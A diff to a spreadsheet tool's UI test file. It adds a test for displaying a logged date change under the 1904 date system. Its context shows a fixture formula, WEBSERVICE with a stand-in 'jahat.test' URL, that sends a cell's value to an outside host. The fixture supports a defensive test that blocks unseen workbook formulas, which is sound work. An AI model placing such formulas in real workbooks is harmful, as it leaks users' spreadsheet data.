@@ -284,6 +284,22 @@ describe('the log of changes', () => {
     expect(port.workbook).toEqual(BOOK);
   });
 
+  it('shows dates as their cells do, before the first check too, also where days count from 1904', async () => {
+    const change = {
+      at: at('BAB III', 'B9'),
+      from: { value: '31-12-2024' },
+      to: { value: 44_195, format: 'dd/mm/yyyy' },
+      rule: 'format-angka',
+      reason: 'x',
+    };
+    const time = '2026-01-02T03:04:05.000Z';
+    const saved = { settings: {}, ignored: [], history: [{ time, changes: [change] }] } as SavedState;
+    const { user } = await open({ saved, workbook: { ...BOOK, date1904: true } });
+    await user.click(await findButton('Catatan perubahan (1)'));
+    await user.click(await findButton(/Format angka · 1 sel/));
+    expect(screen.getByText('31/12/2024 (angka)')).toBeTruthy();
+  });
+
   it('writes no formula that the workbook brought with it before the user has seen it', async () => {
     const F3 = at('BAB III', 'F3');
     const formula = 'WEBSERVICE("https://jahat.test/?"&B3)';
